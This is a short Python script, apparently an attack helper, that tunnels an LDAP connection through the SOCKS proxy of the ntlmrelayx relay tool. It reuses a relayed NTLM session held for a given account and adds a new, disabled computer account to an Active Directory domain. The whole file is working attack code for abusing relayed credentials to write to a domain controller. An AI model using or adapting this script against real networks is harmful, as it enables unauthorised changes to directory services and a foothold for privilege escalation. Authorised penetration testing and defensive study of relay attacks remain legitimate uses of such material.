"""Adds a computer through the SOCKS port of ntlmrelayx, on the LDAP session that it holds for ACCOUNT.

usage: socks_write.py ACCOUNT NAME
"""

import os
import socket
import sys

import ldap3
import socks

BASE = ",".join(f"DC={part}" for part in os.environ["REALM"].lower().split("."))


def main():
    account, name = sys.argv[1:]
    socks.set_default_proxy(socks.SOCKS5, "127.0.0.1", 1080)
    socket.socket = socks.socksocket
    connection = ldap3.Connection(
        ldap3.Server(os.environ["DC"], get_info=ldap3.NONE),
        user=f"{os.environ['DOMAIN']}\\{account}",
        password="ignored",  # the tool answers the logon itself
        authentication=ldap3.NTLM,
        auto_bind=True,
    )
    attributes = {
        "objectClass": ["top", "person", "organizationalPerson", "user", "computer"],
        "sAMAccountName": f"{name}$",
        "userAccountControl": 0x1002,  # workstation trust account, disabled
    }
    connection.add(f"CN={name},CN=Computers,{BASE}", attributes=attributes)
    print(connection.result)


if __name__ == "__main__":
    main()
